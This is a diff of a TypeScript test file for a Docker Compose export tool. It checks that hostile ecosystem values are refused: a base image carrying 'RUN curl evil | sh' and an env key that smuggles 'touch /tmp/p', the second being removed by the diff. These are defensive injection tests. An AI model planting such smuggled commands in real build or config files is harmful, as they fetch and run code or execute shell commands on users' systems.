@@ -196,8 +196,3 @@ test('names from the ecosystem file cannot break out of a comment; a base image 
   assert.match(injected[0], /^# Docker Compose file for the ecosystem 'shop services: \{evil/, 'inside the header comment');
   await assert.rejects(eco.plan({ baseImages: { python: 'python:3.12\nRUN curl evil | sh' } }), (error: unknown) => error instanceof ExportError && /not an image reference/.test(error.message));
 });
-
-test('a secret-looking env key that is not a variable name is refused (it would name a file and a shell assignment)', async () => {
-  const eco = writeEcosystem('services:\n  api:\n    port: 9000\n    env:\n      "x;touch /tmp/p;_TOKEN": abc\n', { 'api/README.md': readme('python3 -m http.server $PORT') });
-  await assert.rejects(eco.plan(), (error: unknown) => error instanceof ExportError && /api: env "x;touch \/tmp\/p;_TOKEN" looks secret but is not a variable name/.test(error.message));
-});
